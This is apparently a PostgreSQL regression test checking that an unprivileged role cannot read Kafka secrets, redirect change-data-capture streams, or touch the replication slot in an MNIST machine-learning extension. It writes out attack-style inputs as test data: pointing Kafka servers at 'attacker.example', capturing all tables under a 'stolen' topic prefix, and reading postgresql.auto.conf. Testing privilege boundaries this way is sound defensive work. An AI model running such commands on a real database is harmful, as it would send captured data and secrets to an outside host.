-- Role rights not covered elsewhere (model_privileges, deployments, kafka_settings): a role
-- without privileges cannot read the Kafka secrets, point the server at other Kafka servers,
-- drop or read the change data capture slot, or run the administrators' functions.
\set schema access_roles
\i sql/common/setup.psql
\set VERBOSITY terse
-- (left over by an interrupted run?)
SET client_min_messages = warning;
DROP ROLE IF EXISTS regress_roles_user;
RESET client_min_messages;
CREATE ROLE regress_roles_user;
GRANT USAGE ON SCHEMA access_roles TO regress_roles_user;
CREATE TABLE scans AS SELECT pixels, label FROM mnist_train ORDER BY id LIMIT 10;
GRANT SELECT ON scans TO regress_roles_user;
SELECT mnist_train('scans', 'roles_model', epochs => 1) > 0 AS trained;

SET ROLE regress_roles_user;
-- secrets: the properties and the properties file are superuser-only settings
SELECT try($$SHOW mnist_ml.kafka_properties$$);
SELECT try($$SHOW mnist_ml.kafka_properties_file$$);
SELECT try($$SELECT current_setting('mnist_ml.kafka_properties')$$);
SELECT count(*) AS secret_settings_listed FROM pg_settings
 WHERE name IN ('mnist_ml.kafka_properties', 'mnist_ml.kafka_properties_file');
SELECT try($$SELECT pg_read_file('postgresql.auto.conf')$$);
-- the Kafka servers, the captured tables and the topic prefix: server settings only
SELECT try($$SET mnist_ml.kafka_bootstrap_servers = 'attacker.example:9092'$$);
SELECT try($$SET mnist_ml.kafka_properties = 'bootstrap.servers=attacker.example:9092'$$);
SELECT try($$SET mnist_ml.cdc_tables = '*.*'$$);
SELECT try($$SET mnist_ml.topic_prefix = 'stolen'$$);
ALTER SYSTEM SET mnist_ml.kafka_bootstrap_servers = 'attacker.example:9092';
SELECT try($$ALTER ROLE regress_roles_user SET mnist_ml.kafka_bootstrap_servers = 'attacker.example:9092'$$);
SELECT try($$SET mnist_ml.cpu_path = 'baseline'$$);
SELECT try($$SELECT * FROM mnist_evaluate_topic('tf.public.scans', 'roles_model', bootstrap_servers => 'attacker.example:9092')$$);
SELECT try($$SELECT * FROM mnist_predict_topic('tf.public.scans', 'roles_model', bootstrap_servers => 'attacker.example:9092')$$);
-- the change data capture slot
SELECT try($$SELECT mnist_cdc_drop_slot()$$);
SELECT try($$SELECT * FROM pg_logical_slot_get_changes('mnist_ml_cdc', NULL, NULL)$$);
SELECT try($$SELECT * FROM pg_logical_slot_peek_changes('mnist_ml_cdc', NULL, NULL)$$);
SELECT try($$SELECT pg_drop_replication_slot('mnist_ml_cdc')$$);
SELECT try($$SELECT mnist_cdc_snapshot('scans')$$);
-- the administrators' functions
SELECT try($$SELECT mnist_model_reassign('x', 'regress_roles_user')$$);
SELECT try($$SELECT mnist_online_start('x', 'tf.public.scans', 'scans')$$);
SELECT try($$SELECT mnist_online_stop('x')$$);
-- what everybody may read: the status views
SELECT count(*) AS cdc_status_rows FROM mnist_cdc_status;
SELECT count(*) >= 0 AS online_status_readable FROM mnist_online_status;
RESET ROLE;

-- EXECUTE on mnist_cdc_drop_slot is not enough: the slot needs the REPLICATION attribute too
GRANT EXECUTE ON FUNCTION mnist_cdc_drop_slot() TO regress_roles_user;
SET ROLE regress_roles_user;
SELECT try($$SELECT mnist_cdc_drop_slot()$$);
RESET ROLE;
REVOKE EXECUTE ON FUNCTION mnist_cdc_drop_slot() FROM regress_roles_user;

DELETE FROM mnist_models WHERE name = 'roles_model';
DROP SCHEMA access_roles CASCADE;
DROP ROLE regress_roles_user;
